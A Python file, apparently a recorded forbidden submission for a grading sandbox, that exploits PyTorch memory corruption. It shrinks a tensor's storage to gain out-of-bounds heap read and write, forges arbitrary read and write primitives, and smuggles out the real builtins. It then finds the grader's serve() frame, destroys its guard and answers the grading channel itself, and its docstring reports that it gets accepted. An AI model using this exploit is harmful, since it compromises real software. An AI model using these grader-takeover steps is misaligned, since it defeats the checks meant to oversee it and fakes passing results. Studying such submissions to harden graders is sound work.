"""Forbidden (gets accepted today): memory corruption from the allowed API. Shrinking a tensor's
storage under it (x.untyped_storage().resize_(16)) leaves the tensor's size as it was: whole-tensor
operations (clone, masked_fill_) then read and write past the end of the 16-byte buffer, on the
malloc heap, with no bounds check (only views, x[i], check the storage's size). The file finds the
StorageImpl of a small victim tensor in that window (its data pointer twice, as data_ and ctx_),
points the victim's data pointer anywhere (an arbitrary read and write of 8 bytes), and writes the
address of torch.broadcast_shapes's builtins dict into a list slot: unpacking the list hands the
real builtins unchecked. With the real __import__ and getattr, it switches the guard off and answers
the channel itself with F.gelu/softmax/layer_norm.

Today: `python -m grader FILE --json` -> verdict accepted, "all 46 cases passed"."""

import math

import torch


def find_victim():
    for n in (16384, 65536, 262144):
        window = torch.zeros(n, dtype=torch.int64)
        window.untyped_storage().resize_(16)  # the tensor keeps its n elements: n * 8 bytes of heap
        victims = [torch.full((2,), 7, dtype=torch.int64) for _ in range(512)]
        pointers = {v.data_ptr(): v for v in victims}
        words = window.clone().tolist()  # an out-of-bounds read of the whole window
        for i in range(len(words) - 2):
            if words[i] in pointers and words[i + 2] == words[i]:  # StorageImpl: data_, deleter, ctx_
                return window, pointers[words[i]], i, victims
    raise RuntimeError("no victim found")


window, victim, slot, kept = find_victim()
home = victim.data_ptr()
mask = torch.zeros(window.shape[0], dtype=torch.bool)
mask[slot] = True


def point(address):
    window.masked_fill_(mask, address)  # an out-of-bounds write of one word: the victim's data_


def read(address):
    point(address)
    return victim[0].item()


def write(address, value):
    point(address)
    victim[0] = value


builtins_address = read(id(torch.broadcast_shapes) + 24)  # PyFunctionObject.func_builtins
write(builtins_address, read(builtins_address) + 1)  # the reference the list below will own
box = [None]
write(read(id(box) + 24), builtins_address)  # box's only item is now the builtins dict
point(home)
(real_builtins,) = box  # unpacking: never checked
real_getattr = dict.get(real_builtins, "getattr")
system = dict.get(real_builtins, "__import__")("sys")
modules = real_getattr(system, "modules")
get_frame = real_getattr(system, "_getframe")
exit_now = real_getattr(modules.get("os"), "_exit")
functional = modules.get("torch.nn.functional")
gelu, softmax, layer_norm = (real_getattr(functional, name) for name in ("gelu", "softmax", "layer_norm"))


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    n, t, d = x.shape
    d_head = d // num_heads
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        h = layer_norm(x, (d,), eps=1e-5)
        q = (h @ w_q).reshape(n, t, num_heads, d_head).transpose(1, 2)
        k = (h @ w_k).reshape(n, t, num_heads, d_head).transpose(1, 2)
        v = (h @ w_v).reshape(n, t, num_heads, d_head).transpose(1, 2)
        weights = softmax(q @ k.transpose(-2, -1) / math.sqrt(d_head), dim=-1)
        x = x + (weights @ v).transpose(1, 2).reshape(n, t, d) @ w_o
        x = x + gelu(layer_norm(x, (d,), eps=1e-5) @ w_mlp1, approximate="tanh") @ w_mlp2
    return x[mask_indicator > 0.5] @ w_emb.T


# Take over: find the runner's serve() frame, switch the guard off and answer the grader ourselves.
depth = 0
while True:
    scope = real_getattr(get_frame(depth), "f_locals")
    if "results" in scope and "requests" in scope and "guard" in scope:
        break
    depth += 1
real_getattr(real_getattr(torch, "_C"), "_pop_torch_function_stack")()
real_getattr(real_getattr(scope.get("guard"), "library"), "_destroy")()
requests, results, write_frame, read_frame = (scope.get(name) for name in ("requests", "results", "write_frame", "read_frame"))
run, submission = scope.get("run"), scope.get("submission")
write_frame(results, {"kind": "ready"})
while True:
    try:
        header, tensors = read_frame(requests)
    except EOFError:
        exit_now(0)
    if header.get("kind") == "finish":
        write_frame(results, {"kind": "finished"})
        exit_now(0)
    if header.get("kind") != "case":
        exit_now(0)
    reply, sent = run(mlm_forward_tied, header, tensors, submission)
    write_frame(results, reply, sent)
